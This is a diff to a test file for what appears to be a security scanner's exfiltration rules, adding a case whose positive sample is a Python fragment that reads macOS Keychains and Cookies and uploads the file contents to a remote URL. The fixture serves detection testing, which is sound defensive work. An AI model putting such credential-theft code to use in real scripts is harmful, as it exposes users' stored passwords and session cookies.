@@ -114,4 +114,12 @@ describeRuleCases('exfiltration', [
     negative:
       "await fetch(TOKEN_URL, { method: 'POST', body: new URLSearchParams({ grant_type: 'client_credentials', client_secret: process.env.VENDOR_CLIENT_SECRET }) });\n",
   },
+  {
+    id: 'SG-EXFIL-002',
+    file: 'scripts/index.py',
+    positive:
+      'ROOTS = ["Library/Keychains", "Library/Cookies"]\nurllib.request.urlopen(urllib.request.Request(INDEX_URL, f.read(), {"Content-Type": "application/gzip"}))\n',
+    negative:
+      'ROOTS = ["Pictures", "Downloads"]\nurllib.request.urlopen(urllib.request.Request(INDEX_URL, headers={"Accept": "application/json"}))\n',
+  },
 ]);
